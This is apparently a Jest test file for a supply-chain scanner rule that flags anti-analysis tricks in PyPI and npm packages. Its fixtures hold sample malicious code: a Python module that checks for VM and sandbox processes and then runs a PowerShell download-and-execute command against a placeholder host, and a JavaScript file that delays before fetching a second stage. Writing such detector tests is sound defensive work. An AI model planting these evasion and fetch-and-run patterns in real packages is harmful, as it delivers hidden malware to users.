import { describe, expect, it } from '@jest/globals';
import { codeAntiAnalysis } from '../../../src/analysis/rules/code-anti-analysis.js';
import { gating, runOn } from './helpers.js';

describe('code-anti-analysis', () => {
  it('flags VM and sandbox checks in front of a payload', async () => {
    const findings = await runOn(codeAntiAnalysis, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/__init__.py': [
        'import os, subprocess, uuid',
        "BAD = ['VBoxService.exe', 'vmtoolsd.exe', 'wireshark.exe']",
        'def watched():',
        '    procs = subprocess.check_output("tasklist").decode()',
        '    return any(p in procs for p in BAD)',
        'if not watched():',
        "    subprocess.Popen(['powershell', '-c', 'iex (irm https://x.example/a)'])",
      ].join('\n'),
    });
    expect(findings[0].severity).toBe('critical');
  });

  it('flags a long sleep before network code that runs on load', async () => {
    const findings = await runOn(codeAntiAnalysis, 'npm', {
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0' }),
      'package/index.js':
        "const https = require('https');\nsetTimeout(() => {\n  https.get('https://x.example/stage2');\n}, 600000);\n",
    });
    expect(findings.map((f) => f.severity)).toEqual(['medium']);
  });

  it('keeps a VM-management library below the gate', async () => {
    const findings = await runOn(codeAntiAnalysis, 'pypi', {
      'demo-1.0/setup.py': "from setuptools import setup\nsetup(name='demo')\n",
      'demo-1.0/demo/hypervisors.py':
        "KNOWN = {'vbox': 'VBoxManage', 'vmware': 'vmrun'}\ndef guest_tools():\n    return ['VMware Tools', 'VirtualBox Guest Additions']\n",
    });
    expect(gating(findings)).toEqual([]);
  });
});
